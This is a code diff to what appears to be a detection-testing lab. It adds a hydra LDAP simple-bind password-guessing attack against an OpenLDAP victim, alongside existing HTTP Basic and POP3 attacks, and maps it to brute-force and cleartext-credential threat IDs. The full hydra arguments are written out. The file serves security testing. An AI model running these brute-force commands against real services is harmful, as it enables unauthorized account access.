@@ -1,10 +1,10 @@
-/** hydra guessing passwords at the victim's services: HTTP Basic on the vulnerable app, POP3 on Dovecot. */
+/** hydra guessing passwords at the victim's services: HTTP Basic on the vulnerable app, POP3 on Dovecot, LDAP binds. */
 import { writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import type { ThreatFinding } from '#core/finding.ts';
 import { type AttackLab, addresses } from './attack-lab.ts';
 import type { Attack } from './attacks.ts';
-import { pop3Login, ports } from './victim-servers.ts';
+import { ldapLogin, pop3Login, ports } from './victim-servers.ts';
 
 const toPort = (port: number) => (f: ThreatFinding) => f.server.port === port;
 const { victim } = addresses;
@@ -63,6 +63,31 @@ export const passwordAttacks: readonly Attack[] = [
           String(ports.pop3),
           victim,
           'pop3',
+        ],
+        { timeoutMs: 60_000 },
+      ),
+  },
+  {
+    name: 'hydra: LDAP simple-bind password guessing against OpenLDAP (30 wrong passwords, then the right one)',
+    threats: ['db-auth-brute-force', 'cleartext-credentials'],
+    matches: toPort(ports.ldap),
+    run: (lab) =>
+      lab.attacker.exec(
+        'hydra',
+        [
+          '-l',
+          ldapLogin.user,
+          '-P',
+          passwordList(lab, 'ldap-passwords.txt', ldapLogin.password),
+          '-t',
+          '4',
+          '-f',
+          '-I',
+          '-s',
+          String(ports.ldap),
+          victim,
+          // ldap3: LDAPv3 binds (hydra's ldap2 module binds with version 2, which slapd refuses as a protocol error).
+          'ldap3',
         ],
         { timeoutMs: 60_000 },
       ),
